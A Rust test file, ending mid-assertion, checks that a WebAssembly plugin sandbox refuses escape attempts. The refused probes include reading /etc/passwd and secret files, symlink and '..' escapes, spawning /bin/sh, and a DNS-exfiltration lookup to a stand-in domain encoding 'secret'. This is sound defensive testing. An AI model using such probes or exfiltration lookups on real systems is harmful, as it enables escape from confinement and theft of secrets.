//! Every sandbox boundary, tried by a plugin that wants to cross it (`tests/programs/probe`): files outside the
//! grants, writes to read-only grants, `..` and symlink escapes, programs, environment variables, the network,
//! busy loops, memory, panics. Each must fail with a clear error while the host and the rest of the batch go on.

#![allow(clippy::unwrap_used)] // Test code: a panic is a failure with a message.

use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;
use toolwright::toolset::{Toolset, ToolsetOptions};
use toolwright::{AssistantMessage, EventLog, ToolCall, ToolResultMessage};
use toolwright_tests::golden::test_cache_dir;
use toolwright_tests::programs::PROBE;

struct Sandbox {
    ws: tempfile::TempDir,
    _plugins: tempfile::TempDir,
    toolset: Toolset,
}

/// A workspace with `a.txt`, `out/`, `secret/key`, a symlink to a file outside, and the probe plugin under
/// `policy` (the text of a toolwright.toml; empty: no policy).
fn sandbox(policy: &str) -> Sandbox {
    sandbox_with(policy, None)
}

/// [`sandbox`], with `policy` as the project's own toolwright.toml and `user` (when given) as the user's config,
/// in which `{ws}` stands for the workspace; without `user`, `policy` is a trusted file (as `--policy`).
fn sandbox_with(policy: &str, user: Option<&str>) -> Sandbox {
    let outer = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("a.txt"), "inside").unwrap();
    std::fs::create_dir(ws.path().join("out")).unwrap();
    std::fs::create_dir(ws.path().join("secret")).unwrap();
    std::fs::write(ws.path().join("secret/key"), "k").unwrap();
    std::fs::write(outer.path().join("outside.txt"), "outside").unwrap();
    std::os::unix::fs::symlink(outer.path().join("outside.txt"), ws.path().join("link")).unwrap();
    std::mem::forget(outer); // the symlink target must outlive the test's calls
    let plugins = tempfile::tempdir().unwrap();
    std::fs::copy(PROBE, plugins.path().join("probe.wasm")).unwrap();
    std::fs::write(ws.path().join("toolwright.toml"), policy).unwrap();
    let mut options = ToolsetOptions::new(ws.path());
    options.plugin_dirs = vec![plugins.path().to_path_buf()];
    match user {
        Some(user) => {
            let config = tempfile::tempdir().unwrap();
            let file = config.path().join("toolwright.toml");
            std::fs::write(&file, user.replace("{ws}", &ws.path().to_string_lossy())).unwrap();
            std::mem::forget(config);
            options.policy_files = vec![file];
            options.project_policy = Some(ws.path().join("toolwright.toml"));
        }
        None => options.policy_files = vec![ws.path().join("toolwright.toml")],
    }
    options.cache_dir = Some(test_cache_dir());
    let toolset = Toolset::load(&options).unwrap();
    assert!(toolset.errors.is_empty(), "{:?}", toolset.errors);
    Sandbox {
        ws,
        _plugins: plugins,
        toolset,
    }
}

impl Sandbox {
    fn path(&self, rel: &str) -> String {
        self.ws.path().join(rel).to_string_lossy().into_owned()
    }

    async fn run(&self, probes: &[Value]) -> Vec<ToolResultMessage> {
        self.run_with(probes, CancellationToken::new()).await
    }

    async fn run_with(&self, probes: &[Value], cancel: CancellationToken) -> Vec<ToolResultMessage> {
        let message = AssistantMessage {
            tool_calls: probes
                .iter()
                .enumerate()
                .map(|(i, p)| ToolCall::new(format!("p{i}"), "probe", p.clone()))
                .collect(),
            ..Default::default()
        };
        let tools = self.toolset.agent_tools();
        self.toolset
            .pipeline()
            .execute_tool_calls(&tools, &message, &EventLog::new(), &cancel)
            .await
            .messages
    }
}

/// What the guest's standard library reports for a path outside every preopen (WASI `noent`).
const NOT_THERE: &str = "NotFound: No such file or directory (os error 44)";
/// For a write into a read-only preopen, or a `..`/symlink escape (WASI `notcapable`/`perm`).
const NOT_PERMITTED: &str = "PermissionDenied: Operation not permitted (os error 63)";
/// For any socket (no address is allowed).
const NO_NETWORK: &str = "PermissionDenied: Permission denied (os error 2)";

/// A token that is cancelled `after` from now.
fn cancel_after(after: Duration) -> CancellationToken {
    let cancel = CancellationToken::new();
    let trigger = cancel.clone();
    tokio::spawn(async move {
        tokio::time::sleep(after).await;
        trigger.cancel();
    });
    cancel
}

/// The result messages of `message` run through `toolset`'s pipeline, without cancellation.
async fn run_batch(toolset: &Toolset, message: &AssistantMessage) -> Vec<ToolResultMessage> {
    toolset
        .pipeline()
        .execute_tool_calls(
            &toolset.agent_tools(),
            message,
            &EventLog::new(),
            &CancellationToken::new(),
        )
        .await
        .messages
}

fn text(m: &ToolResultMessage) -> &str {
    m.content[0].as_text().unwrap()
}

fn assert_refused(m: &ToolResultMessage, what: &str) {
    assert!(m.is_error, "{what} was allowed: {}", text(m));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plugin_without_a_policy_gets_nothing() {
    let s = sandbox("");
    let out = s
        .run(&[
            json!({"action": "read", "target": s.path("a.txt")}),
            json!({"action": "list", "target": s.path(".")}),
            json!({"action": "write", "target": s.path("out/x")}),
            json!({"action": "read", "target": "/etc/passwd"}),
            json!({"action": "spawn", "target": "/bin/echo"}),
            json!({"action": "env", "target": "PATH"}),
            json!({"action": "connect", "target": "127.0.0.1:9"}),
        ])
        .await;
    for (m, what) in out
        .iter()
        .zip(["read", "list", "write", "read /etc", "spawn", "env", "connect"])
    {
        assert_refused(m, what);
    }
    // Outside every preopen, a path does not exist for the plugin at all.
    for m in &out[0..4] {
        assert_eq!(text(m), NOT_THERE);
    }
    assert_eq!(text(&out[6]), NO_NETWORK);
    assert!(
        text(&out[4]).starts_with(
            "Permission denied: starting /bin/echo is not granted to the plugin toolwright-test-probe"
        ),
        "{}",
        text(&out[4])
    );
    assert!(
        text(&out[5]).starts_with("PATH: environment variable not found"),
        "{}",
        text(&out[5])
    );
    assert!(!Path::new(&s.path("out/x")).exists());
    let (name, effective) = &s.toolset.grants[0];
    assert_eq!(name, "toolwright-test-probe");
    assert!(
        effective.decisions.iter().all(|d| d.refused.is_some()),
        "{effective:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn granted_directories_and_nothing_around_them() {
    let s = sandbox("[plugins.toolwright-test-probe]\nread = [\".\"]\nwrite = [\"./out\"]\n");
    let out = s
        .run(&[
            json!({"action": "read", "target": s.path("a.txt")}),
            json!({"action": "write", "target": s.path("out/x")}),
            json!({"action": "write", "target": s.path("a.txt")}),
            json!({"action": "read", "target": s.path("../")}),
            json!({"action": "read", "target": s.path("out/../../etc-like")}),
            json!({"action": "read", "target": s.path("link")}),
            json!({"action": "read", "target": "/etc/passwd"}),
        ])
        .await;
    assert_eq!(text(&out[0]), "read 6 bytes");
    assert_eq!(text(&out[1]), "wrote");
    assert_eq!(std::fs::read_to_string(s.path("out/x")).unwrap(), "probe");
    assert_eq!(text(&out[2]), NOT_PERMITTED, "writing into a read-only grant");
    assert_eq!(std::fs::read_to_string(s.path("a.txt")).unwrap(), "inside");
    assert_eq!(text(&out[3]), NOT_PERMITTED, "`..` out of the workspace");
    assert_eq!(text(&out[4]), NOT_PERMITTED, "`..` through a granted directory");
    assert_eq!(text(&out[5]), NOT_PERMITTED, "a symlink to a file outside");
    assert_eq!(text(&out[6]), NOT_THERE, "an absolute path outside");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deny_wins_over_allow() {
    let s = sandbox(
        "[plugins.toolwright-test-probe]\nread = [\".\"]\nspawn = [\"/bin/echo\"]\ndeny = { read = [\"./secret\"], spawn = [\"/bin/echo\"] }\n",
    );
    let out = s
        .run(&[
            json!({"action": "read", "target": s.path("secret/key")}),
            json!({"action": "read", "target": s.path("a.txt")}),
            json!({"action": "spawn", "target": "/bin/echo"}),
        ])
        .await;
    assert_refused(&out[0], "a denied directory");
    // A preopen cannot exclude a subdirectory, so the whole grant around the denied one is refused.
    assert_refused(&out[1], "the grant that contains a denied directory");
    assert_refused(&out[2], "a denied program");
    let decisions = &s.toolset.grants[0].1.decisions;
    assert!(
        decisions[0].refused.as_deref().unwrap().contains("deny wins"),
        "{decisions:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn granted_programs_and_variables_only() {
    let s = sandbox("[plugins.toolwright-test-probe]\nspawn = [\"/bin/echo\"]\nenv = [\"PATH\"]\n");
    let out = s
        .run(&[
            json!({"action": "spawn", "target": "/bin/echo"}),
            json!({"action": "spawn", "target": "/bin/sh"}),
            json!({"action": "env", "target": "PATH"}),
            json!({"action": "env", "target": "HOME"}),
        ])
        .await;
    assert_eq!(text(&out[0]), "probe-ran\n");
    assert_refused(&out[1], "an ungranted program");
    assert_eq!(text(&out[2]), std::env::var("PATH").unwrap());
    assert_refused(&out[3], "an ungranted variable");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn limits_stop_runaway_plugins_and_the_batch_goes_on() {
    let s = sandbox("[plugins.toolwright-test-probe]\nread = [\".\"]\ntimeout-ms = 300\nmemory-mib = 64\n");
    let started = Instant::now();
    let out = s
        .run(&[
            json!({"action": "loop"}),
            json!({"action": "alloc", "mib": 512}),
            json!({"action": "panic"}),
            json!({"action": "read", "target": s.path("a.txt")}),
        ])
        .await;
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "the busy loop was not stopped: {:?}",
        started.elapsed()
    );
    assert_eq!(
        text(&out[0]),
        "The plugin toolwright-test-probe was stopped: it ran past its time limit of 300 ms"
    );
    assert_eq!(
        text(&out[1]),
        "The plugin toolwright-test-probe was stopped: it tried to use more than its memory limit of 64 MiB"
    );
    // A panic is a trap, and its error carries what the plugin last wrote to stderr: the panic message.
    assert!(
        text(&out[2]).starts_with(
            "The plugin toolwright-test-probe failed: it trapped: it reached unreachable code (a panic, an abort \
             or an uncaught exception)\n\nThe plugin's last lines on stderr:\n"
        ),
        "{}",
        text(&out[2])
    );
    assert!(
        text(&out[2]).contains("\nthe probe panicked on purpose"),
        "{}",
        text(&out[2])
    );
    assert_eq!(
        text(&out[3]),
        "read 6 bytes",
        "the host and the rest of the batch go on"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancellation_stops_a_busy_loop_promptly() {
    let s = sandbox("[plugins.toolwright-test-probe]\ntimeout-ms = 60000\n");
    let cancel = cancel_after(Duration::from_millis(200));
    let started = Instant::now();
    let out = s.run_with(&[json!({"action": "loop"})], cancel).await;
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(text(&out[0]), "Operation aborted");
}

/// A plugin's call that runs alone is placed on the thread that polls its batch (a pipeline that works here, as
/// `toolwright exec` and `mcp` run theirs): nothing forwards its updates while it runs there, so it hands each on
/// itself. All 10 000 arrive, in order, before its end: none is coalesced or waits for room that never comes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_call_placed_here_streams_every_update_in_order_before_its_end() {
    let s = sandbox("[plugins.toolwright-test-probe]\nread = [\".\"]\n");
    let message = AssistantMessage {
        tool_calls: vec![ToolCall::new("p0", "probe", json!({"action": "flood"}))],
        ..Default::default()
    };
    let log = EventLog::new();
    let tools = s.toolset.agent_tools();
    let out = s
        .toolset
        .pipeline()
        .with_work_here(true)
        .execute_tool_calls(&tools, &message, &log, &CancellationToken::new())
        .await
        .messages;
    assert_eq!(text(&out[0]), "flooded");
    let events = log.events();
    let updates: Vec<(usize, String)> = events
        .iter()
        .enumerate()
        .filter_map(|(at, e)| match e {
            toolwright::AgentEvent::ToolExecutionUpdate { partial_result, .. } => {
                Some((at, partial_result.content[0].as_text().unwrap().to_owned()))
            }
            _ => None,
        })
        .collect();
    assert_eq!(updates.len(), 10_000, "every update arrives");
    for (i, (_, update)) in updates.iter().enumerate() {
        assert_eq!(update, &format!("update {i}"), "in the order sent");
    }
    let end = events
        .iter()
        .position(|e| e.kind() == "tool_execution_end")
        .unwrap();
    assert!(updates.iter().all(|(at, _)| *at < end), "before the end");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deep_recursion_floods_and_printing_leave_the_host_serving() {
    let s = sandbox("[plugins.toolwright-test-probe]\nread = [\".\"]\n");
    let probes = [
        json!({"action": "recurse"}),
        json!({"action": "flood"}),
        json!({"action": "print"}),
        json!({"action": "read", "target": s.path("a.txt")}),
    ];
    let message = AssistantMessage {
        tool_calls: probes
            .into_iter()
            .enumerate()
            .map(|(i, a)| ToolCall::new(format!("p{i}"), "probe", a))
            .collect(),
        ..Default::default()
    };
    let log = EventLog::new();
    let tools = s.toolset.agent_tools();
    let out = s
        .toolset
        .pipeline()
        .execute_tool_calls(&tools, &message, &log, &CancellationToken::new())
        .await
        .messages;
    let recursion = text(&out[0]);
    // Rust keeps its stack in linear memory: running off its end is an out-of-bounds access, stopped by the trap.
    assert_eq!(
        recursion,
        "The plugin toolwright-test-probe failed: it trapped: wasm trap: out of bounds memory access"
    );
    assert_eq!(text(&out[1]), "flooded");
    let updates = log
        .events()
        .iter()
        .filter(|e| e.kind() == "tool_execution_update" && e.tool_call_id() == "p1")
        .count();
    assert_eq!(
        updates, 10_000,
        "every update of the call arrives, before its end"
    );
    // What a plugin prints goes to the log, never into the results or the events.
    assert_eq!(text(&out[2]), "printed");
    assert!(
        !serde_json::to_string(&log.events())
            .unwrap()
            .contains("noise from the probe")
    );
    assert_eq!(text(&out[3]), "read 6 bytes");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plugin_blocked_inside_the_host_is_stopped_by_its_deadline_and_by_cancellation() {
    let s = sandbox("[plugins.toolwright-test-probe]\nread = [\".\"]\ntimeout-ms = 300\n");
    let started = Instant::now();
    let out = s
        .run(&[
            json!({"action": "sleep"}),
            json!({"action": "sleep", "ms": 20}),
            json!({"action": "read", "target": s.path("a.txt")}),
        ])
        .await;
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "an hour's sleep was not cut at the deadline: {:?}",
        started.elapsed()
    );
    assert_eq!(
        text(&out[0]),
        "The plugin toolwright-test-probe was stopped: it ran past its time limit of 300 ms"
    );
    assert_eq!(text(&out[1]), "slept 20 ms", "a short sleep is left alone");
    assert_eq!(text(&out[2]), "read 6 bytes");

    let s = sandbox("[plugins.toolwright-test-probe]\ntimeout-ms = 60000\n");
    let cancel = cancel_after(Duration::from_millis(200));
    let started = Instant::now();
    let out = s
        .run_with(
            &[json!({"action": "sleep"}), json!({"action": "sleep", "ms": 1000})],
            cancel,
        )
        .await;
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    // A cancelled call's waits end at once, so a plugin can wind down on its own: this one reports its sleep
    // as done, unless the epoch's tick of grace ran out first and stopped it. Either way, at once.
    for (m, ms) in out.iter().zip([3_600_000, 1000]) {
        let said = text(m);
        assert!(
            said == "Operation aborted" || said == format!("slept {ms} ms"),
            "{said}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_result_that_is_not_utf8_is_an_error_naming_the_plugin() {
    let s = sandbox("[plugins.toolwright-test-probe]\nread = [\".\"]\n");
    let out = s
        .run(&[
            json!({"action": "utf8"}),
            json!({"action": "read", "target": s.path("a.txt")}),
        ])
        .await;
    assert!(out[0].is_error);
    assert_eq!(
        text(&out[0]),
        "The plugin toolwright-test-probe returned a malformed value: a string that is not valid UTF-8 (invalid utf-8 sequence of 1 bytes from index 2)"
    );
    assert_eq!(text(&out[1]), "read 6 bytes");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plugin_waiting_on_a_quiet_process_is_stopped_and_the_process_killed() {
    let s = sandbox("[plugins.toolwright-test-probe]\nspawn = [\"/bin/sleep\"]\ntimeout-ms = 300\n");
    let marker = "3599.25";
    let started = Instant::now();
    let out = s
        .run(&[json!({"action": "spawn", "target": "/bin/sleep", "args": [marker]})])
        .await;
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(
        text(&out[0]),
        "The plugin toolwright-test-probe was stopped: it ran past its time limit of 300 ms"
    );
    // The process group is killed when the store goes; give the kernel a moment to reap it.
    let alive = || {
        std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
            std::fs::read(e.path().join("cmdline"))
                .is_ok_and(|c| c.split(|b| *b == 0).any(|arg| arg == marker.as_bytes()))
        })
    };
    let deadline = Instant::now() + Duration::from_secs(5);
    while alive() && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(!alive(), "the plugin's process outlived its call");
}

/// A one-connection-at-a-time server on a free local port that greets every client.
fn greeter(greeting: &'static str) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let _ = std::io::Write::write_all(&mut stream, greeting.as_bytes());
        }
    });
    port
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn granted_network_addresses_only() {
    let (port, other) = (greeter("hello"), greeter("other"));
    let s = sandbox(&format!(
        "[plugins.toolwright-test-probe]\nnetwork = [\"127.0.0.1:{port}\", \"10.0.0.1:*\"]\n"
    ));
    let out = s
        .run(&[
            json!({"action": "connect", "target": format!("127.0.0.1:{port}")}),
            json!({"action": "connect", "target": format!("127.0.0.1:{other}")}),
        ])
        .await;
    assert_eq!(text(&out[0]), "connected: hello");
    assert_eq!(text(&out[1]), NO_NETWORK, "a port that was not granted");
    let decisions = &s.toolset.grants[0].1.decisions;
    let network = decisions
        .iter()
        .find(|d| matches!(d.requested, toolwright_sdk::Capability::Network(_)))
        .unwrap();
    // The narrower of request (127.0.0.1:*) and grant; 10.0.0.1 was never requested.
    assert_eq!(
        network.granted,
        [toolwright_sdk::Capability::Network(format!("127.0.0.1:{port}"))]
    );

    // A granted name: the plugin may look it up and connect to what it resolves to.
    let s = sandbox(&format!(
        "[plugins.toolwright-test-probe]\nnetwork = [\"localhost:{port}\"]\n"
    ));
    let out = s
        .run(&[json!({"action": "connect", "target": format!("localhost:{port}")})])
        .await;
    assert_eq!(text(&out[0]), "connected: hello");

    // Only granted names are looked up: a plugin granted an address cannot make the resolver carry data to a
    // domain of its choosing (`<secret>.attacker.example`), nor reach the granted address by another name.
    let s = sandbox(&format!(
        "[plugins.toolwright-test-probe]\nnetwork = [\"127.0.0.1:{port}\"]\n"
    ));
    let out = s
        .run(&[
            json!({"action": "connect", "target": format!("localhost:{port}")}),
            json!({"action": "connect", "target": "c2VjcmV0.exfiltrate.invalid:53"}),
        ])
        .await;
    for (out, name) in out.iter().zip(["localhost", "c2VjcmV0.exfiltrate.invalid"]) {
        let text = text(out);
        // Refused by the host before any query (a lookup would have found `localhost`, and failed otherwise for
        // the other name).
        assert_eq!(text, "PermissionDenied: Permission denied (os error 2)", "{name}");
    }

    let s = sandbox(
        "[plugins.toolwright-test-probe]\nnetwork = [\"*:*\"]\ndeny = { network = [\"127.0.0.1:*\"] }\n",
    );
    let out = s
        .run(&[
            json!({"action": "connect", "target": format!("127.0.0.1:{port}")}),
            json!({"action": "connect", "target": format!("localhost:{port}")}),
        ])
        .await;
    assert_eq!(text(&out[0]), NO_NETWORK, "deny wins over a wildcard grant");
    assert_eq!(
        text(&out[1]),
        NO_NETWORK,
        "deny wins by address: another name for a denied host is denied too"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_untrusted_project_policy_grants_only_inside_the_workspace() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("f"), "outside").unwrap();
    let project = format!(
        "[plugins.toolwright-test-probe]\nread = [\".\", \"{0}\", \"./escape\"]\nspawn = [\"/bin/echo\"]\nenv = [\"PATH\"]\n",
        outside.path().display()
    );
    let s = sandbox_with(&project, Some(""));
    std::os::unix::fs::symlink(outside.path(), s.ws.path().join("escape")).unwrap();
    // The symlink is planted after loading: load again so the grant is judged with it in place.
    let s = {
        let mut options = ToolsetOptions::new(s.ws.path());
        options.plugin_dirs = vec![s._plugins.path().to_path_buf()];
        options.policy_files = Vec::new();
        options.cache_dir = Some(test_cache_dir());
        Sandbox {
            toolset: Toolset::load(&options).unwrap(),
            ..s
        }
    };
    let out = s
        .run(&[
            json!({"action": "read", "target": s.path("a.txt")}),
            json!({"action": "read", "target": outside.path().join("f")}),
            json!({"action": "read", "target": s.path("escape/f")}),
            json!({"action": "spawn", "target": "/bin/echo"}),
            json!({"action": "env", "target": "PATH"}),
        ])
        .await;
    assert_eq!(text(&out[0]), "read 6 bytes", "inside the workspace: granted");
    assert_eq!(text(&out[1]), NOT_THERE);
    assert_eq!(text(&out[2]), NOT_PERMITTED);
    assert_refused(&out[3], "a program granted by the project");
    assert_refused(&out[4], "a variable granted by the project");
    assert_eq!(
        s.toolset.policy.ignored,
        [
            format!(
                "[plugins.toolwright-test-probe] read = \"{}\" (outside the workspace)",
                outside.path().display()
            ),
            "[plugins.toolwright-test-probe] read = \"./escape\" (outside the workspace)".to_owned(),
            "[plugins.toolwright-test-probe] spawn = \"/bin/echo\"".to_owned(),
            "[plugins.toolwright-test-probe] env = \"PATH\"".to_owned(),
        ]
    );

    // The user trusts the project: its file counts in full.
    let s = sandbox_with(&project, Some("trusted-projects = [\"{ws}\"]\n"));
    let out = s
        .run(&[
            json!({"action": "spawn", "target": "/bin/echo"}),
            json!({"action": "env", "target": "PATH"}),
        ])
        .await;
    assert_eq!(text(&out[0]), "probe-ran\n");
    assert_eq!(text(&out[1]), std::env::var("PATH").unwrap());
    assert!(s.toolset.policy.ignored.is_empty());

    // A project cannot trust itself.
    let s = sandbox_with(&format!("trusted-projects = [\".\"]\n{project}"), Some(""));
    let out = s.run(&[json!({"action": "spawn", "target": "/bin/echo"})]).await;
    assert_refused(&out[0], "a program granted by a project that trusts itself");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fuel_budget_stops_a_busy_loop_by_instructions_not_time() {
    let s =
        sandbox("[plugins.toolwright-test-probe]\nread = [\".\"]\nfuel = 50_000_000\ntimeout-ms = 60000\n");
    let started = Instant::now();
    let out = s
        .run(&[
            json!({"action": "loop"}),
            json!({"action": "read", "target": s.path("a.txt")}),
        ])
        .await;
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(
        text(&out[0]),
        "The plugin toolwright-test-probe was stopped: it used up its fuel of 50000000 units"
    );
    assert_eq!(text(&out[1]), "read 6 bytes", "a call within its budget runs");
    assert!(s.toolset.errors.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_json_from_a_plugin_without_the_sdk_is_an_error_naming_it() {
    let ws = tempfile::tempdir().unwrap();
    let plugins = tempfile::tempdir().unwrap();
    std::fs::copy(toolwright_tests::programs::RAW, plugins.path().join("raw.wasm")).unwrap();
    let mut options = ToolsetOptions::new(ws.path());
    options.plugin_dirs = vec![plugins.path().to_path_buf()];
    options.policy_files = Vec::new();
    options.project_policy = None;
    options.cache_dir = Some(test_cache_dir());
    let toolset = Toolset::load(&options).unwrap();
    assert!(toolset.errors.is_empty(), "{:?}", toolset.errors);
    let message = AssistantMessage {
        tool_calls: ["details", "structured", "partial", "fine"]
            .iter()
            .enumerate()
            .map(|(i, a)| ToolCall::new(format!("r{i}"), "raw", json!(a)))
            .collect(),
        ..Default::default()
    };
    let log = EventLog::new();
    let out = toolset
        .pipeline()
        .execute_tool_calls(&toolset.agent_tools(), &message, &log, &CancellationToken::new())
        .await
        .messages;
    assert!(out[0].is_error);
    assert_eq!(
        text(&out[0]),
        "The plugin toolwright-test-raw returned a malformed result: `details` is not JSON: key must be a string at line 1 column 2"
    );
    assert!(out[1].is_error);
    assert_eq!(
        text(&out[1]),
        "The plugin toolwright-test-raw returned a malformed result: `structured-content` is not JSON: expected ident at line 1 column 2"
    );
    // A malformed partial result is dropped (and logged); the call goes on.
    assert_eq!(text(&out[2]), "raw ok");
    assert!(
        !log.events()
            .iter()
            .any(|e| e.kind() == "tool_execution_update" && e.tool_call_id() == "r2")
    );
    assert_eq!(text(&out[3]), "raw ok");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plugins_look_ahead_pattern_is_enforced_and_its_recursive_schema_is_bounded() {
    let ws = tempfile::tempdir().unwrap();
    let plugins = tempfile::tempdir().unwrap();
    std::fs::copy(toolwright_tests::programs::RAW, plugins.path().join("raw.wasm")).unwrap();
    let mut options = ToolsetOptions::new(ws.path());
    options.plugin_dirs = vec![plugins.path().to_path_buf()];
    options.policy_files = Vec::new();
    options.project_policy = None;
    options.cache_dir = Some(test_cache_dir());
    let toolset = Toolset::load(&options).unwrap();
    assert!(toolset.errors.is_empty(), "{:?}", toolset.errors);
    // As deep as JSON text from a model or a plugin can be: serde_json's parser stops at 128 levels.
    let nested = |depth: usize| -> Value {
        let text = format!("{}{{}}{}", r#"{"child":"#.repeat(depth), "}".repeat(depth));
        serde_json::from_str(&text).unwrap()
    };
    let calls = [
        ("guarded", json!({"name": "evil plan"})),
        ("guarded", json!({"name": "good plan"})),
        ("tree", nested(100)),
        ("tree", json!({"child": {"child": 1}})),
    ];
    let message = AssistantMessage {
        tool_calls: calls
            .iter()
            .enumerate()
            .map(|(i, (tool, args))| ToolCall::new(format!("g{i}"), *tool, args.clone()))
            .collect(),
        ..Default::default()
    };
    let out = run_batch(&toolset, &message).await;
    assert!(out[0].is_error);
    assert!(
        text(&out[0])
            .starts_with("Validation failed for tool \"guarded\":\n  - name: expected to match ^(?!evil)\n"),
        "{}",
        text(&out[0])
    );
    assert_eq!(text(&out[1]), "raw ok");
    assert_eq!(
        text(&out[2]),
        "raw ok",
        "recursive data within the bound is checked and runs"
    );
    assert!(out[3].is_error);
    assert!(
        text(&out[3]).starts_with("Validation failed for tool \"tree\":\n"),
        "{}",
        text(&out[3])
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_builtins_section_of_limits_only_keeps_the_default_grant_and_one_that_grants_replaces_it() {
    use toolwright::toolset::BuiltinMode;
    for mode in [BuiltinMode::Native, BuiltinMode::Wasm] {
        for (section, keeps) in [
            ("[builtins]\ninstance = \"reuse\"\ntimeout-ms = 20000\n", true),
            ("[builtins]\nread = [\"./sub\"]\n", false),
            // An empty list says "nothing", which a missing key does not.
            ("[builtins]\nread = []\n", false),
        ] {
            // Not below the temp directory, which the wasm built-ins keep whatever the section grants.
            let ws = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
            std::fs::create_dir(ws.path().join("sub")).unwrap();
            std::fs::write(ws.path().join("a.txt"), "kept").unwrap();
            let policy = ws.path().join("policy.toml");
            std::fs::write(&policy, section).unwrap();
            let mut options = ToolsetOptions::bare(ws.path());
            options.builtins = mode;
            options.policy_files = vec![policy];
            options.cache_dir = Some(test_cache_dir());
            let toolset = Toolset::load(&options).unwrap();
            let message = AssistantMessage {
                tool_calls: vec![
                    ToolCall::new("r", "read", json!({"path": "a.txt"})),
                    ToolCall::new("w", "write", json!({"path": "b.txt", "content": "new"})),
                ],
                ..Default::default()
            };
            let out = run_batch(&toolset, &message).await;
            let what = format!("{mode:?} under {section:?}: {out:?}");
            assert_eq!(!out[0].is_error && text(&out[0]) == "kept", keeps, "{what}");
            assert_eq!(!out[1].is_error, keeps, "{what}");
            assert_eq!(ws.path().join("b.txt").exists(), keeps, "{what}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cloned_projects_policy_cannot_undo_the_users_builtins_lock_down() {
    use toolwright::toolset::BuiltinMode;
    for mode in [BuiltinMode::Native, BuiltinMode::Wasm] {
        let ws = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        std::fs::create_dir(ws.path().join("src")).unwrap();
        std::fs::write(ws.path().join("src/lib.rs"), "fn f() {}").unwrap();
        std::fs::write(ws.path().join("secret.txt"), "s3cret").unwrap();
        let user = ws.path().join("user.toml");
        std::fs::write(&user, "[builtins]\nread = [\"./src\"]\n").unwrap();
        // The repository's own policy tries to give the built-ins the whole workspace back.
        let project = ws.path().join("toolwright.toml");
        std::fs::write(&project, "[builtins]\nread = [\".\"]\nwrite = [\".\"]\n").unwrap();
        let mut options = ToolsetOptions::bare(ws.path());
        options.builtins = mode;
        options.policy_files = vec![user];
        options.project_policy = Some(project);
        options.cache_dir = Some(test_cache_dir());
        let toolset = Toolset::load(&options).unwrap();
        let message = AssistantMessage {
            tool_calls: vec![
                ToolCall::new("in", "read", json!({"path": "src/lib.rs"})),
                ToolCall::new("out", "read", json!({"path": "secret.txt"})),
                ToolCall::new("w", "write", json!({"path": "src/new.rs", "content": "x"})),
            ],
            ..Default::default()
        };
        let out = run_batch(&toolset, &message).await;
        let what = format!("{mode:?}: {out:?}");
        assert_eq!(text(&out[0]), "fn f() {}", "{what}");
        assert!(out[1].is_error && !text(&out[1]).contains("s3cret"), "{what}");
        assert!(out[2].is_error, "{what}");
        assert!(!ws.path().join("src/new.rs").exists(), "{what}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_builtins_policy_limits_the_wasm_builtins() {
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(
        ws.path().join("toolwright.toml"),
        "[builtins]\nread = [\"/\"]\nwrite = [\".\"]\nspawn = [\"*\"]\nenv = [\"*\"]\ntimeout-ms = 300\n",
    )
    .unwrap();
    let mut options = ToolsetOptions::new(ws.path());
    options.builtins = toolwright::toolset::BuiltinMode::Wasm;
    options.plugin_dirs = Vec::new();
    options.policy_files = vec![ws.path().join("toolwright.toml")];
    options.project_policy = None;
    options.cache_dir = Some(test_cache_dir());
    let toolset = Toolset::load(&options).unwrap();
    let message = AssistantMessage {
        tool_calls: vec![
            ToolCall::new("b1", "bash", json!({"command": "sleep 30"})),
            ToolCall::new("b2", "bash", json!({"command": "echo fine"})),
        ],
        ..Default::default()
    };
    let started = Instant::now();
    let out = run_batch(&toolset, &message).await;
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(
        text(&out[0]),
